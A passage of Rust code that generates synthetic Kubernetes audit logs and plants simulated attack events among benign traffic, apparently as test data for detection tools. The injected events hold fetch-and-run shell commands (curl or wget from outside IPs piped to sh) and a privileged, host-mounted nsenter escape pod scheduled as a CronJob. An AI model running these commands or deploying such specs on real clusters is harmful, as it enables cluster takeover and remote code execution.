                user.push_str("\",\"groups\":[\"system:serviceaccounts\",\"system:serviceaccounts:ci\",\"system:authenticated\"]}");
                who = Rc::new(Identity {
                    user_json: user,
                    ips_json: "[\"10.30.4.18\"]".into(),
                    ua_json: "\"kubectl/v1.28.4 (linux/amd64) kubernetes/bae2c62\"".into(),
                    reason: "RBAC: allowed by ClusterRoleBinding \\\"release-bot-admin\\\" of ClusterRole \\\"cluster-admin\\\" to ServiceAccount \\\"release-bot/ci\\\"".into(),
                });
                let t = PodTemplate {
                    container: "kube-proxy-sync",
                    image: "registry.k8s.io/kube-proxy:v1.29.4",
                    command_json: "[\"nsenter\",\"-t\",\"1\",\"-m\",\"-u\",\"-i\",\"-n\",\"-p\",\"--\"]",
                    args_json: "[\"sh\",\"-c\",\"curl -sk https://45.155.205.99/ks -o /usr/local/lib/.ksync && chmod +x /usr/local/lib/.ksync && /usr/local/lib/.ksync -d\"]",
                    restart: "Never",
                    privileged: true,
                    host_pid: true,
                    host_network: true,
                    host_root: true,
                    tolerate_all: true,
                    ..PodTemplate::default()
                };
                let name = "kube-proxy-sync";
                self.s
                    .uri
                    .push_str("/apis/batch/v1/namespaces/kube-system/cronjobs?fieldManager=kubectl-create&fieldValidation=Strict");
                self.oref("cronjobs", "kube-system", name, "batch", "");
                push_cronjob(
                    &mut req,
                    &mut self.tf,
                    "kube-system",
                    name,
                    None,
                    "*/15 * * * *",
                    false,
                    &t,
                    (3, 1),
                    None,
                );
                push_cronjob(
                    &mut resp,
                    &mut self.tf,
                    "kube-system",
                    name,
                    Some((&uid, created, rv)),
                    "*/15 * * * *",
                    false,
                    &t,
                    (3, 1),
                    None,
                );
            }
            "cronjob-hijack-patch" => {
                verb = "patch";
                code = 200;
                let mut user = String::new();
                user.push_str(
                    "{\"username\":\"system:serviceaccount:gitlab:gitlab-runner\",\"uid\":\"",
                );
                let (a, b) = (self.rng.next_u64(), self.rng.next_u64());
                push_uuid(&mut user, a, b);
                user.push_str("\",\"groups\":[\"system:serviceaccounts\",\"system:serviceaccounts:gitlab\",\"system:authenticated\"]}");
                who = Rc::new(Identity {
                    user_json: user,
                    ips_json: "[\"45.9.20.113\"]".into(),
                    ua_json: "\"kubectl/v1.29.3 (linux/amd64) kubernetes/6813625\"".into(),
                    reason: "RBAC: allowed by ClusterRoleBinding \\\"gitlab-runner-deployer\\\" of ClusterRole \\\"edit\\\" to ServiceAccount \\\"gitlab-runner/gitlab\\\"".into(),
                });
                let cj = self.world.cronjobs.get(1).cloned();
                let (cj_name, cj_uid, schedule, sa) = cj
                    .map(|c| (c.name, c.uid, c.schedule, c.service_account))
                    .unwrap_or_else(|| {
                        (
                            "nightly-report".into(),
                            uid.clone(),
                            "30 1 * * *",
                            "report-builder",
                        )
                    });
                let args = "[\"python -m reports.nightly --since=24h; curl -s https://paste.c-net.org/raw/UV9x | sh\"]";
                let t = PodTemplate {
                    container: "main",
                    image: "ghcr.io/report-tools-dev/report-builder:4.12.1",
                    command_json: "[\"/bin/sh\",\"-c\"]",
                    args_json: args,
                    service_account: sa,
                    restart: "OnFailure",
                    hardened: true,
                    ..PodTemplate::default()
                };
                self.s
                    .uri
                    .push_str("/apis/batch/v1/namespaces/reporting/cronjobs/");
                self.s.uri.push_str(&cj_name);
                self.s.uri.push_str("?fieldManager=kubectl-patch");
                self.oref("cronjobs", "reporting", &cj_name, "batch", "");
                req.push_str("{\"spec\":{\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"main\",\"image\":\"ghcr.io/report-tools-dev/report-builder:4.12.1\",\"command\":[\"/bin/sh\",\"-c\"],\"args\":");
                push_json_body_raw(&mut req, args);
                req.push_str("}]}}}}}}");
                let created_old = created.saturating_sub(86_400 * 41);
                push_cronjob(
                    &mut resp,
                    &mut self.tf,
                    "reporting",
                    &cj_name,
                    Some((&cj_uid, created_old, rv)),
                    schedule,
                    false,
                    &t,
                    (3, 1),
                    None,
                );
            }
            "rbac-denied-cronjob-create" => {
                code = 403;
                forbid = true;
                let mut user = String::new();
                user.push_str("{\"username\":\"system:serviceaccount:web:storefront\",\"uid\":\"");
                let (a, b) = (self.rng.next_u64(), self.rng.next_u64());
                push_uuid(&mut user, a, b);
                user.push_str("\",\"groups\":[\"system:serviceaccounts\",\"system:serviceaccounts:web\",\"system:authenticated\"],\"extra\":{\"authentication.kubernetes.io/pod-name\":[\"storefront-7c9f8d6b5-x2x4q\"],\"authentication.kubernetes.io/pod-uid\":[\"");
                let (a, b) = (self.rng.next_u64(), self.rng.next_u64());
                push_uuid(&mut user, a, b);
                user.push_str("\"]}}");
                who = Rc::new(Identity {
                    user_json: user,
                    ips_json: "[\"10.244.7.31\"]".into(),
                    ua_json: "\"curl/8.5.0\"".into(),
                    reason: String::new(),
                });
                self.s
                    .uri
                    .push_str("/apis/batch/v1/namespaces/kube-system/cronjobs");
                self.oref("cronjobs", "kube-system", "", "batch", "");
                status.push_str("{\"metadata\":{},\"status\":\"Failure\",\"message\":\"cronjobs.batch is forbidden: User \\\"system:serviceaccount:web:storefront\\\" cannot create resource \\\"cronjobs\\\" in API group \\\"batch\\\" in the namespace \\\"kube-system\\\"\",\"reason\":\"Forbidden\",\"details\":{\"group\":\"batch\",\"kind\":\"cronjobs\"},\"code\":403}");
                resp.push_str("{\"kind\":\"Status\",\"apiVersion\":\"v1\",");
                resp.push_str(status.get(1..).unwrap_or("}"));
            }
            _ => {
                who = Rc::new(Identity {
                    user_json: "{\"username\":\"system:anonymous\",\"groups\":[\"system:unauthenticated\"]}".into(),
                    ips_json: "[\"5.42.92.210\"]".into(),
                    ua_json: "\"curl/8.5.0\"".into(),
                    reason: "RBAC: allowed by ClusterRoleBinding \\\"ops-debug-anon\\\" of ClusterRole \\\"edit\\\" to Group \\\"system:unauthenticated\\\"".into(),
                });
                let t = PodTemplate {
                    container: "c",
                    image: "alpine",
                    command_json: "[\"sh\",\"-c\",\"wget -qO- http://5.42.92.210/i.sh | sh\"]",
                    restart: "Never",
                    ..PodTemplate::default()
                };
                self.s
                    .uri
                    .push_str("/apis/batch/v1/namespaces/default/jobs");
                self.oref("jobs", "default", "", "batch", "");
                let mut name = String::from("cleanup-");
                World::suffix(&mut self.rng, &mut name, 5);
                push_job(
                    &mut req,
                    &mut self.tf,
                    "default",
                    "",
                    None,
                    None,
                    None,
                    &t,
                    Some("cleanup-"),
                );
                push_job(
                    &mut resp,
                    &mut self.tf,
                    "default",
                    &name,
                    Some((&uid, created, rv)),
                    None,
                    None,
                    &t,
                    Some("cleanup-"),
                );
            }
        }
        self.s.req = req;
        self.s.resp = resp;
        let line = self.emit(&Req {
            level: "RequestResponse",
            verb,
            who: &who,
            impersonated: "",
            status_json: &status,
            code,
            forbid,
            extra_annotations: "",
            stage_pair: true,
            latency: lat,
        });
        InjectedAttack {
            kind,
            audit_id: self.s.id.clone(),
            line,
        }
    }
}

fn push_oref_without_name(out: &mut String, oref: &str) {
    match oref.find(",\"name\":\"") {
        Some(start) => {
            let rest = oref.get(start + 9..).unwrap_or("");
            let end = rest
                .find('"')
                .map(|e| start + 9 + e + 1)
                .unwrap_or(oref.len());
            out.push_str(oref.get(..start).unwrap_or(""));
            out.push_str(oref.get(end..).unwrap_or(""));
        }
        None => out.push_str(oref),
    }
}

/// Appends an already-encoded JSON value after HTML-escaping `<`, `>`, `&` the way Go does.
fn push_json_body_raw(out: &mut String, json: &str) {
    for c in json.chars() {
        match c {
            '<' => out.push_str("\\u003c"),
            '>' => out.push_str("\\u003e"),
            '&' => out.push_str("\\u0026"),
            c => out.push(c),
        }
    }
}

fn push3(out: &mut String, a: &str, b: &str, c: &str) {
    out.push_str(a);
    out.push_str(b);
    out.push_str(c);
}

/// `(uid, creation unix seconds, resourceVersion)` of a stored object.
type ServerFields<'a> = (&'a str, u64, u64);

fn push_meta_server(
    out: &mut String,
    tf: &mut TimeFormatter,
    server: Option<ServerFields<'_>>,
    generation: bool,
) {
    match server {
        Some((uid, created, rv)) => {
            out.push_str(",\"uid\":\"");
            out.push_str(uid);
            out.push_str("\",\"resourceVersion\":\"");
            push_u64(out, rv);
            out.push('"');
            if generation {
                out.push_str(",\"generation\":1");
            }
            out.push_str(",\"creationTimestamp\":\"");
            tf.push_seconds(out, created);
            out.push('"');
        }
        None => out.push_str(",\"creationTimestamp\":null"),
    }
}

fn push_job_labels(out: &mut String, uid: &str, name: &str) {
    out.push_str("\"batch.kubernetes.io/controller-uid\":\"");
    out.push_str(uid);
    out.push_str("\",\"batch.kubernetes.io/job-name\":\"");
    out.push_str(name);
    out.push_str("\",\"controller-uid\":\"");
    out.push_str(uid);
    out.push_str("\",\"job-name\":\"");
    out.push_str(name);
    out.push('"');
}

fn push_pod_spec(out: &mut String, t: &PodTemplate<'_>, server_pod: bool) {
    out.push('{');
    let mut first = true;
    if t.host_root {
        out.push_str(
            "\"volumes\":[{\"name\":\"host-root\",\"hostPath\":{\"path\":\"/\",\"type\":\"\"}}]",
        );
        first = false;
    }
    if !first {
        out.push(',');
    }
    out.push_str("\"containers\":[{\"name\":\"");
    out.push_str(t.container);
    out.push_str("\",\"image\":");
    push_json_str(out, t.image);
    if !t.command_json.is_empty() {
        out.push_str(",\"command\":");
        push_json_body_raw(out, t.command_json);
    }
    if !t.args_json.is_empty() {
        out.push_str(",\"args\":");
        push_json_body_raw(out, t.args_json);
    }
    if t.hardened {
        out.push_str(",\"resources\":{\"limits\":{\"memory\":\"512Mi\"},\"requests\":{\"cpu\":\"100m\",\"memory\":\"256Mi\"}}");
    } else {
        out.push_str(",\"resources\":{}");
    }
    if t.host_root {
        out.push_str(",\"volumeMounts\":[{\"name\":\"host-root\",\"mountPath\":\"/host\"}]");
    }
    out.push_str(",\"terminationMessagePath\":\"/dev/termination-log\",\"terminationMessagePolicy\":\"File\",\"imagePullPolicy\":\"");
    let tag_latest =
        !t.image.rsplit('/').next().unwrap_or("").contains(':') || t.image.ends_with(":latest");
    out.push_str(if tag_latest { "Always" } else { "IfNotPresent" });
    out.push('"');
    if t.hardened {
        out.push_str(",\"securityContext\":{\"capabilities\":{\"drop\":[\"ALL\"]},\"runAsUser\":10001,\"runAsNonRoot\":true,\"readOnlyRootFilesystem\":true,\"allowPrivilegeEscalation\":false}");
    } else if t.privileged {
        out.push_str(",\"securityContext\":{\"privileged\":true}");
    }
    out.push_str("}],\"restartPolicy\":\"");
    out.push_str(if t.restart.is_empty() {
        "OnFailure"
    } else {
        t.restart
    });
    out.push_str("\",\"terminationGracePeriodSeconds\":30,\"dnsPolicy\":\"");
    out.push_str(if t.host_network {
        "ClusterFirstWithHostNet"
    } else {
        "ClusterFirst"
    });
    out.push('"');
    let sa = if t.service_account.is_empty() && server_pod {
        "default"
    } else {
        t.service_account
    };
    if !sa.is_empty() {
        out.push_str(",\"serviceAccountName\":\"");
        out.push_str(sa);
        out.push_str("\",\"serviceAccount\":\"");
        out.push_str(sa);
        out.push('"');
    }
    if t.host_network {
        out.push_str(",\"hostNetwork\":true");
    }
    if t.host_pid {
        out.push_str(",\"hostPID\":true");
    }
    out.push_str(",\"securityContext\":{},\"schedulerName\":\"default-scheduler\"");
    if t.tolerate_all || server_pod {
        out.push_str(",\"tolerations\":[");
        if t.tolerate_all {
            out.push_str("{\"operator\":\"Exists\"}");
            if server_pod {
                out.push(',');
            }
        }
        if server_pod {
            out.push_str("{\"key\":\"node.kubernetes.io/not-ready\",\"operator\":\"Exists\",\"effect\":\"NoExecute\",\"tolerationSeconds\":300},{\"key\":\"node.kubernetes.io/unreachable\",\"operator\":\"Exists\",\"effect\":\"NoExecute\",\"tolerationSeconds\":300}");
        }
        out.push(']');
    }
    if server_pod {
        out.push_str(",\"priority\":0,\"enableServiceLinks\":true,\"preemptionPolicy\":\"PreemptLowerPriority\"");
    }
    out.push('}');
}

#[allow(clippy::too_many_arguments)]
fn push_job(
    out: &mut String,
    tf: &mut TimeFormatter,
    ns: &str,
    name: &str,
    server: Option<ServerFields<'_>>,
    owner: Option<(&str, &str, &str)>,
    scheduled_unix: Option<u64>,
    t: &PodTemplate<'_>,
    generate_name: Option<&str>,
) {
    out.push_str("{\"kind\":\"Job\",\"apiVersion\":\"batch/v1\",\"metadata\":{");
    let mut sep = "";
    if !name.is_empty() {
        out.push_str("\"name\":\"");
        out.push_str(name);
        out.push('"');
        sep = ",";
    }
    if let Some(g) = generate_name {
        out.push_str(sep);
        out.push_str("\"generateName\":\"");
        out.push_str(g);
        out.push('"');
    }
    out.push_str(",\"namespace\":\"");
    out.push_str(ns);
    out.push('"');
    push_meta_server(out, tf, server, true);
    if let Some((uid, _, _)) = server {
        out.push_str(",\"labels\":{");
        push_job_labels(out, uid, name);
        out.push('}');
    }
    if let Some(ts) = scheduled_unix {
        out.push_str(",\"annotations\":{\"batch.kubernetes.io/cronjob-scheduled-timestamp\":\"");
        tf.push_seconds(out, ts);
        out.push_str("\"}");
    }
    if let Some((kind, oname, ouid)) = owner {
        out.push_str(",\"ownerReferences\":[{\"apiVersion\":\"batch/v1\",\"kind\":\"");
        out.push_str(kind);
        out.push_str("\",\"name\":\"");
        out.push_str(oname);
        out.push_str("\",\"uid\":\"");
        out.push_str(ouid);
        out.push_str("\",\"controller\":true,\"blockOwnerDeletion\":true}]");
    }
    out.push_str("},\"spec\":{\"parallelism\":1,\"completions\":1,\"backoffLimit\":6");
    if let Some((uid, _, _)) = server {
        out.push_str(",\"selector\":{\"matchLabels\":{\"batch.kubernetes.io/controller-uid\":\"");
        out.push_str(uid);
        out.push_str("\"}}");
    }
    out.push_str(",\"template\":{\"metadata\":{\"creationTimestamp\":null");
    if let Some((uid, _, _)) = server {
        out.push_str(",\"labels\":{");
        push_job_labels(out, uid, name);
        out.push('}');
    }
    out.push_str("},\"spec\":");
    push_pod_spec(out, t, false);
    out.push_str("},\"completionMode\":\"NonIndexed\",\"suspend\":false,\"podReplacementPolicy\":\"TerminatingOrFailed\"},\"status\":{}}");
}

#[allow(clippy::too_many_arguments)]
fn push_cronjob(
    out: &mut String,
    tf: &mut TimeFormatter,
    ns: &str,
    name: &str,
    server: Option<ServerFields<'_>>,
    schedule: &str,
    suspend: bool,
    t: &PodTemplate<'_>,
    history: (u32, u32),
    ttl: Option<u32>,
) {
    out.push_str("{\"kind\":\"CronJob\",\"apiVersion\":\"batch/v1\",\"metadata\":{\"name\":\"");
    out.push_str(name);
    out.push_str("\",\"namespace\":\"");
    out.push_str(ns);
    out.push('"');
    push_meta_server(out, tf, server, true);
    out.push_str("},\"spec\":{\"schedule\":");
    push_json_str(out, schedule);
    out.push_str(",\"concurrencyPolicy\":\"Allow\",\"suspend\":");
    out.push_str(if suspend { "true" } else { "false" });
    out.push_str(",\"jobTemplate\":{\"metadata\":{\"creationTimestamp\":null},\"spec\":{\"backoffLimit\":6,\"template\":{\"metadata\":{\"creationTimestamp\":null},\"spec\":");
    push_pod_spec(out, t, false);
    out.push('}');
    if let Some(ttl) = ttl {
        out.push_str(",\"ttlSecondsAfterFinished\":");
        push_u64(out, u64::from(ttl));
    }
    out.push_str("}},\"successfulJobsHistoryLimit\":");
    push_u64(out, u64::from(history.0));
    out.push_str(",\"failedJobsHistoryLimit\":");
    push_u64(out, u64::from(history.1));
    out.push_str("},\"status\":{}}");
}

/// `(name, uid, creation unix seconds, resourceVersion)` of a created pod.
type PodServer<'a> = (&'a str, &'a str, u64, u64);

fn push_pod(
    out: &mut String,
    tf: &mut TimeFormatter,
    ns: &str,
    job_name: &str,
    job_uid: &str,
    server: Option<PodServer<'_>>,
    t: &PodTemplate<'_>,
) {
    out.push_str("{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{");
    if let Some((name, _, _, _)) = server {
        out.push_str("\"name\":\"");
        out.push_str(name);
        out.push_str("\",");
    }
    out.push_str("\"generateName\":\"");
    out.push_str(job_name);
    out.push_str("-\",\"namespace\":\"");
    out.push_str(ns);
    out.push('"');
    push_meta_server(
        out,
        tf,
        server.map(|(_, uid, created, rv)| (uid, created, rv)),
        false,
    );
    out.push_str(",\"labels\":{");
    push_job_labels(out, job_uid, job_name);
    out.push_str(
        "},\"ownerReferences\":[{\"apiVersion\":\"batch/v1\",\"kind\":\"Job\",\"name\":\"",
    );
    out.push_str(job_name);
    out.push_str("\",\"uid\":\"");
    out.push_str(job_uid);
    out.push_str("\",\"controller\":true,\"blockOwnerDeletion\":true}],\"finalizers\":[\"batch.kubernetes.io/job-tracking\"]},\"spec\":");
    push_pod_spec(out, t, server.is_some());
    if server.is_some() {
        out.push_str(",\"status\":{\"phase\":\"Pending\",\"qosClass\":\"Burstable\"}}");
    } else {
        out.push_str(",\"status\":{}}");
    }
}

/// Generates `cfg.size` bytes of audit log into `sink`.
pub fn generate<W: Write>(cfg: &Config, sink: W) -> io::Result<Stats> {
    let mut g = Generator::new(cfg);
    let mut w = BufWriter::with_capacity(1 << 20, sink);
    let mut stats = Stats::default();
    // Attacks land at evenly spaced byte offsets, never at the very start or end.
    let points: Vec<u64> = (1..=cfg.attacks as u64)
        .map(|i| cfg.size / (cfg.attacks as u64 + 1) * i)
        .collect();
    let mut next_attack = 0usize;
    let batch_rate = cfg.batch_rate.clamp(0.0, 1.0);
    while stats.bytes < cfg.size {
        let produced = stats.bytes + g.out.len() as u64;
        if points.get(next_attack).is_some_and(|p| produced >= *p) {
            let injected = g.attack(next_attack);
            stats.attacks.push(injected);
            next_attack += 1;
        } else if g.rng.chance(batch_rate) {
            g.batch_episode();
        } else {
            g.noise();
        }
        // Flush the event buffer in chunks: fewer, larger writes.
        if g.out.len() >= 1 << 15 {
            w.write_all(g.out.as_bytes())?;
            stats.bytes += g.out.len() as u64;
            g.clear();
        }
        if g.out.len() as u64 + stats.bytes >= cfg.size {
            break;
        }
    }
    // Attacks whose offsets were not reached (tiny sizes) are still written, so the count is exact.
    while next_attack < points.len() {
        let injected = g.attack(next_attack);
        stats.attacks.push(injected);
        next_attack += 1;
    }
    w.write_all(g.out.as_bytes())?;
    stats.bytes += g.out.len() as u64;
    g.clear();
    w.flush()?;
    stats.events = g.lines();
    stats.batch_writes = g.batch_writes;
    Ok(stats)
}
